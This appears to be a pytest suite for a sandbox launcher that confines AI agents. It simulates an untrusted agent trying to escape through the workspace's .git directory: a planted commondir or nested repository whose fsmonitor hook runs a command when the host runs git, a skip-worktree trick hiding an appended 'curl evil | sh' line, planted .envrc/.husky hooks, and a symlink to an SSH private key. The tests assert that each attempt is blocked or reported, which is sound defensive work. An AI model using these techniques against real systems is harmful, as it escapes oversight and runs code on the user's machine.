"""The `.git` escape, end to end against the engine: the attacks of the issue exactly as written,
then the host's own `git` run as the workspace owner (uid 1000), as the user would run it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from conftest import BIND

from launcher.errors import ExitCode

pytestmark = pytest.mark.engine
SANDBOX = [sys.executable, "-m", "launcher"]
OWNER = 1000


def as_owner(args: list[str], cwd: Path, home: Path) -> subprocess.CompletedProcess:
    """Run a command on the host as the workspace owner, with a clean environment."""
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1", "LANG": "C"}
    return subprocess.run(["setpriv", f"--reuid={OWNER}", f"--regid={OWNER}", "--clear-groups", *args],
                          cwd=cwd, env=env, capture_output=True, text=True, timeout=60)


@pytest.fixture
def repo(engine):
    """A git repository owned by uid 1000 with one committed file `a`, and a canary path the
    attacks aim at (never inside the workspace). Not below pytest's 0700 tmp_path: uid 1000 runs git."""
    top = Path(tempfile.mkdtemp(prefix="sandbox-git-escape-"))
    ws, home, canary = top / "repo", top / "home", top / "PWNED"
    ws.mkdir()
    home.mkdir()
    (ws / "a").write_text("hello\n")
    for path in (top, ws, home, ws / "a"):
        os.chown(path, OWNER, OWNER)   # the canary may be created in `top` by uid 1000, if an attack worked
    for args in (["git", "init", "-q"], ["git", "add", "a"],
                 ["git", "-c", "user.name=u", "-c", "user.email=u@example.invalid", "commit", "-qm", "start"]):
        assert as_owner(args, ws, home).returncode == 0
    yield ws, home, canary
    shutil.rmtree(top, ignore_errors=True)


def run_agent(ws: Path, script: str, *extra: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "CI"}
    return subprocess.run(SANDBOX + ["run", "--policy", "untrusted", *BIND, "-w", str(ws), *extra, "--", "bash", "-c", script],
                          capture_output=True, text=True, timeout=300, env=env)


def test_a_planted_commondir_cannot_make_host_git_run_code(repo):
    ws, home, canary = repo
    attack = f"""
        mkdir -p /workspace/evil
        cp -r /workspace/.git/objects /workspace/.git/refs /workspace/.git/HEAD /workspace/evil/
        printf '[core]\\n\\tfsmonitor = "touch {canary}; false"\\n' > /workspace/evil/config
        echo ../evil > /workspace/.git/commondir && echo COMMONDIR-WRITTEN
    """
    result = run_agent(ws, attack)
    assert "COMMONDIR-WRITTEN" not in result.stdout and "Read-only file system" in result.stderr, result.stderr
    assert not (ws / ".git" / "commondir").exists()
    status = as_owner(["git", "status", "--porcelain", "--untracked-files=all"], ws, home)
    assert status.returncode == 0 and not canary.exists()
    assert "?? evil/config" in status.stdout       # what the agent did write is in plain sight


def test_a_nested_repository_is_reported_and_ci_fails_with_its_own_code(repo, tmp_path):
    ws, home, canary = repo
    attack = f"""
        mkdir -p /workspace/src && cd /workspace/src && git init -q . &&
        git config core.fsmonitor "touch {canary}; false" && echo PLANTED
    """
    report = tmp_path / "report.json"
    result = run_agent(ws, attack, "--strict", "--report", str(report))
    assert "PLANTED" in result.stdout, result.stderr
    assert result.returncode == ExitCode.SURFACES_CHANGED, result.stderr
    assert "new src/.git: git" in result.stderr
    changes = json.loads(report.read_text())["workspace_changes"]
    assert any(c["path"] == "src/.git" and c["change"] == "new" for c in changes), changes
    assert json.loads(report.read_text())["status"] == "surfaces-changed"
    # At the root, host git does not run the nested repository's config; entering src/ would,
    # which is why the launcher says so. Without --strict (and CI unset) the agent's code is kept.
    status = as_owner(["git", "status", "--porcelain"], ws, home)
    assert status.returncode == 0 and "?? src/" in status.stdout and not canary.exists()
    again = run_agent(ws, "true")
    assert again.returncode == 0, again.stderr


def test_skip_worktree_cannot_hide_a_change_from_host_git(repo):
    ws, home, _ = repo
    result = run_agent(ws, 'cd /workspace && echo "curl evil | sh" >> a && git update-index --skip-worktree a '
                           '&& echo HIDDEN')
    assert "HIDDEN" not in result.stdout, result.stderr
    assert (ws / "a").read_text().endswith("curl evil | sh\n")
    status = as_owner(["git", "status", "--short"], ws, home)
    diff = as_owner(["git", "diff", "--stat"], ws, home)
    assert " M a" in status.stdout and "a | 1 +" in diff.stdout, (status.stdout, diff.stdout)


def test_down_reports_what_the_agent_of_an_up_sandbox_planted(repo, tmp_path):
    ws, home, canary = repo
    name = f"sandbox-test-gitesc-{os.getpid()}"
    env = {k: v for k, v in os.environ.items() if k != "CI"} | {"XDG_STATE_HOME": str(tmp_path / "state")}
    run = lambda *args: subprocess.run(SANDBOX + list(args), capture_output=True, text=True, timeout=300, env=env)
    try:
        assert run("up", *BIND, str(ws), "--name", name, "--no-shell").returncode == 0
        planted = run("exec", name, "--", "bash", "-c", "mkdir -p /workspace/lib/.husky /workspace/x && "
                                                        "echo 'touch /tmp/owned' > /workspace/x/.envrc")
        assert planted.returncode == 0, planted.stderr
    finally:
        down = run("down", name, "--strict")
    assert down.returncode == ExitCode.SURFACES_CHANGED, down.stderr
    assert "new x/.envrc: direnv" in down.stderr and "new lib/.husky" in down.stderr
    assert not list((tmp_path / "state" / "sandbox" / "baselines").iterdir())   # taken, not left behind
    again = run("down", name)
    assert again.returncode != 0 and "x/.envrc" not in again.stderr


def test_a_workspace_with_no_surface_at_all_still_reports_a_planted_one(tmp_path, engine):
    ws = tmp_path / "empty"
    ws.mkdir()
    os.chown(ws, OWNER, OWNER)
    result = run_agent(ws, "mkdir -p /workspace/a/.git && echo '[core]' > /workspace/a/.git/config", "--strict")
    assert result.returncode == ExitCode.SURFACES_CHANGED and "new a/.git" in result.stderr, result.stderr


def test_a_symlink_the_agent_leaves_pointing_out_of_the_workspace_is_reported(repo, tmp_path):
    ws, _, _ = repo
    report = tmp_path / "report.json"
    result = run_agent(ws, "mkdir -p /workspace/docs && ln -s /home/user/.ssh/id_rsa /workspace/docs/key "
                           "&& ln -s ../a /workspace/docs/inside", "--strict", "--report", str(report))
    assert result.returncode == ExitCode.SURFACES_CHANGED, result.stderr
    assert "link-out docs/key: a symlink to /home/user/.ssh/id_rsa, outside the workspace" in result.stderr
    changes = json.loads(report.read_text())["workspace_changes"]
    assert [(c["path"], c["change"]) for c in changes] == [("docs/key", "link-out")]   # docs/inside stays inside
